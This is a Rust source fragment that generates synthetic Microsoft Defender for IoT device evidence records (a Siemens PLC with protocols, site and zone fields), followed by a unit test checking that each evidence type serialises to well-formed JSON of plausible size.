        self.choice("deviceType", &["PLC", "Building controller", "Card reader"]);
        self.writer.null("deviceSubType");
        self.writer.string("devicePageLink", "https://iot.example/devices/4711");
        self.choice("importance", &["low", "normal", "high", "unknown"]);
        self.choice("manufacturer", &["Siemens", "Rockwell", "Schneider"]);
        self.writer.string("model", "S7-1500");
        self.writer.string("operatingSystem", "Firmware 2.9.4");
        let serial = self.dice.hex(12).to_uppercase();
        self.writer.string("serialNumber", &serial);
        self.mac("macAddress");
        self.writer.strings("owners", &["plant-ops"]);
        self.writer.strings("protocols", &["S7comm", "Modbus", "HTTP"]);
        self.writer.string("purdueLayer", "ProcessControl");
        self.writer.string("sensor", &host.name);
        self.writer.string("site", "Plant 2");
        self.writer.string("zone", "Line 4");
        self.writer.string("source", "Microsoft Defender for IoT");
        self.guid("ioTSecurityAgentId");
        self.writer.flag("isAuthorized", true);
        self.writer.flag("isProgramming", false);
        self.writer.flag("isScanner", false);
        self.nested("ipAddress", "ipEvidence");
        self.nested_list("nics", "nicEvidence", 1);
        self.nested("sourceRef", "urlEvidence");
        self.nested("ioTHub", "azureResourceEvidence");
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::world::cast;

    #[test]
    fn every_type_is_a_readable_object_of_life_like_size() {
        let tenant = cast::tenant(7, 0);
        for kind in EVIDENCE_TYPES {
            for incident in 0..20 {
                let cast = Cast::of_incident(&tenant, incident);
                let mut writer = Writer::default();
                EvidenceWriter {
                    writer: &mut writer,
                    cast: &cast,
                    dice: &mut Dice::new(incident),
                    at: Ticks::parse("2026-11-21T03:46:39Z").unwrap(),
                }
                .element(kind);
                let (text, masks) = writer.finish();
                let value: serde_json::Value = serde_json::from_str(&text).expect(kind);
                assert_eq!(value["@odata.type"], format!("#microsoft.graph.security.{kind}"));
                assert!(value["roles"].is_array() && value["verdict"].is_string());
                assert!((200..12_000).contains(&text.len()), "{kind}: {}", text.len());
                for (start, length) in masks {
                    assert!(text.get(start as usize..(start + length) as usize).is_some());
                }
            }
        }
    }
}
